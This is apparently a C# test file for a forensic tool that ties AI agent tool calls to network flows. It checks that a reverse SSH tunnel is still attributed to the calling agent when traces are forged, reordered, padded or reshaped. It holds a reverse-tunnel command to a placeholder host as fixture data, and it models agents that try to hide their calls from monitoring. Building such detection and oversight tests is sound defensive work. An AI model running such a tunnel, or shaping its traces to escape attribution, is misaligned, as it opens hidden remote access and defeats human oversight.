// SPDX-License-Identifier: Apache-2.0
using FwCorrelate.Correlation;
using FwCorrelate.Incidents;
using FwCorrelate.Service;

namespace FwCorrelate.Scenarios;

/// <summary>Traces as the field writes them, and as an agent would that wants to hide: the call that did it stays named.</summary>
[TestClass]
public sealed class TraceShapeTests
{
    private const string Tunnel = "ssh -fN -R 2222:localhost:22 dev@203.0.113.7";

    [TestMethod]
    [DataRow("trace-mcp-span-lost", "bbbbbbbbbbbbbbb1")]
    [DataRow("trace-aisdk-span-lost", "call_1")]
    [DataRow("trace-span-kind-attribute-lost", "bbbbbbbbbbbbbbb1")]
    [DataRow("trace-traceloop-lost", "bbbbbbbbbbbbbbb1")]
    [DataRow("trace-one-call-two-spans", "call_1")]
    [DataRow("trace-args-vendor-attribute", "call_1")]
    [DataRow("trace-value-wrapped-twice", "call_1")]
    [DataRow("read-tempo-batches", "call_1")]
    [DataRow("read-docker-json-file", "call_1")]
    public void Field_ATraceOfAnotherShape_NamesTheCallInOneIncident(string folder, string call)
    {
        var result = Investigation.Run(new InvestigationOptions { CasePath = SharedCases.Path($"field/{folder}") });

        var incident = result.Incidents.Single();
        Assert.AreEqual((call, Verdict.AgentInitiated), (incident.NamedCalls.Single().CallId, incident.Verdict));
        Assert.AreEqual("Tool call opens a reverse or dynamic SSH tunnel", incident.Rule.Title);
        Assert.IsGreaterThan(0.99, incident.Attribution.Confidence);
        Assert.IsEmpty(result.Rejected);
    }

    [TestMethod]
    public void Field_ACallWhoseSpanIsMissing_LeavesItUndetermined()
    {
        var result = Investigation.Run(new InvestigationOptions { CasePath = SharedCases.Path("field/trace-call-missing-is-background") });

        var incident = result.Incidents.Single();
        Assert.AreEqual(Verdict.Undetermined, incident.Verdict);
        Assert.Contains("the span of call_1", incident.WouldDecide);
        Assert.AreEqual(1, result.TimelineTrust.CallsWithoutSpan);
    }

    [TestMethod]
    [DataRow("lone-surrogate-drops-batch/case", 0)]
    [DataRow("forged-span/case", 1)]
    [DataRow("same-call-in-two-formats/case", 0)]
    [DataRow("ecs-episode-order/case", 1)]
    [DataRow("ecs-episode-order/case2", 1)]
    [DataRow("ecs-original-bad-text/case", 0)]
    public void Hostile_WhateverIsWrittenBeside_TheTunnelsCallStaysNamed(string folder, int conflicts)
    {
        var result = Investigation.Run(new InvestigationOptions { CasePath = SharedCases.Path($"hostile/{folder}") });

        var incident = result.Incidents.Single(i => i.Target == "203.0.113.7:22/tcp" && i.RecordCount > 0);
        Assert.AreEqual("call_2", incident.NamedCalls.Single().CallId);
        Assert.HasCount(conflicts, result.TimelineTrust.Conflicts);
        Assert.AreEqual(conflicts, result.Warnings.Count(w => w.Contains("contradict each other", StringComparison.Ordinal)));
        Assert.IsEmpty(result.Ledger.Discrepancies());
    }

    [TestMethod]
    public void Hostile_EpisodesToldInAnyOrder_GiveTheSameIncidents()
    {
        var (one, other) = (Ids("hostile/ecs-episode-order/case"), Ids("hostile/ecs-episode-order/case2"));
        CollectionAssert.AreEqual(one, other);

        static List<string> Ids(string folder) =>
            [.. Investigation.Run(new InvestigationOptions { CasePath = SharedCases.Path(folder) }).Incidents.Select(i => $"{i.Id} {i.Attribution.Kind} {i.Target}")];
    }

    [TestMethod]
    public void Hostile_APaddedCommand_IsReadToItsEnd()
    {
        var result = Investigation.Run(new InvestigationOptions { CasePath = SharedCases.Path("hostile/command-cut-at-64k") + "/case" });
        var incident = result.Incidents.Single(i => i.Target == "203.0.113.7:22/tcp");
        Assert.AreEqual(("call_1", AttributionKind.ToolCall), (incident.NamedCalls.Single().CallId, incident.Attribution.Kind));
        Assert.IsGreaterThan(65_536, incident.Command!.Length);
    }

    [TestMethod]
    public void Run_CaseWithTheDocumentsOfItsOwnCalls_IsTheSameCase()
    {
        using var copy = CaseCopy.Of("aws");
        var expected = Incidents(copy);
        copy.Add("timeline/saved.ndjson", ProgramRun.Of("timeline", copy.Path, "--format", "jsonl", "-q").Output);

        Assert.AreEqual(expected, Incidents(copy));
        Assert.AreEqual(0, ProgramRun.Of("timeline", copy.Path, "--format", "jsonl", "-q").Code);

        static string Incidents(CaseCopy copy) => string.Join('\n', Investigation.Run(new InvestigationOptions { CasePath = copy.Path }).Incidents
            .Select(i => $"{i.Id} {i.Rule.Title} {i.Attribution.Call?.CallId} {i.Verdict}"));
    }

    /// <summary>
    /// No case of others is needed for what matters most: a call that is not read is told, and never a reason for background.
    /// </summary>
    [TestMethod]
    [DataRow("mcp.method.name", "tools/call", true)]
    [DataRow("gen_ai.tool.name", "bash", false)]
    public void Run_ATunnelWhoseSpanIsOfAnotherShape_IsNamedOrUndetermined(string attribute, string value, bool isNamed)
    {
        using var copy = CaseCopy.Empty();
        copy.Add("case.yml", "internal_networks: [10.0.0.0/8]\nslack: {aws-vpc-flow: 2s}\n");
        copy.Add("leases/leases.csv", "address,owner_kind,owner_id,host,from,to\n10.0.0.5,sandbox,sb-1,w1,2026-01-30T05:00:00Z,2026-01-30T06:00:00Z\n");
        copy.Add("logs/flow.log", "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status tcp-flags flow-direction\n"
            + string.Concat(Enumerable.Range(0, 4).Select(i => $"3 1 eni-0a 10.0.0.5 203.0.113.7 {50000 + i} 22 6 30 9000 {1769750001 + (20 * i)} {1769750019 + (20 * i)} ACCEPT OK 2 egress\n")));
        var arguments = isNamed ? $",{{\"key\":\"gen_ai.tool.call.arguments\",\"value\":{{\"stringValue\":\"{Tunnel}\"}}}}" : "";
        copy.Add("timeline/traces.jsonl", $$$"""
            {"resourceSpans":[{"resource":{"attributes":[{"key":"sandbox.id","value":{"stringValue":"sb-1"}}]},"scopeSpans":[{"spans":[{"traceId":"5b8efff798038103d269b633813fc60c","spanId":"bbbbbbbbbbbbbbb9","name":"execute_tool bash","startTimeUnixNano":"1769749800000000000","endTimeUnixNano":"1769749810000000000","attributes":[]},{"traceId":"5b8efff798038103d269b633813fc60c","spanId":"bbbbbbbbbbbbbbb1","name":"work","startTimeUnixNano":"1769750000000000000","endTimeUnixNano":"1769750100000000000","attributes":[{"key":"{{{attribute}}}","value":{"stringValue":"{{{value}}}"}}{{{arguments}}}]}]}]}]}
            """);

        var result = Investigation.Run(new InvestigationOptions { CasePath = copy.Path });

        Assert.AreEqual(isNamed ? Verdict.AgentInitiated : Verdict.Undetermined, result.Incidents.Single(i => i.RecordCount > 0).Verdict);
        Assert.AreEqual(isNamed ? 0 : 1, result.TimelineTrust.SpansNotTaken.Sum(s => s.Spans));
    }
}
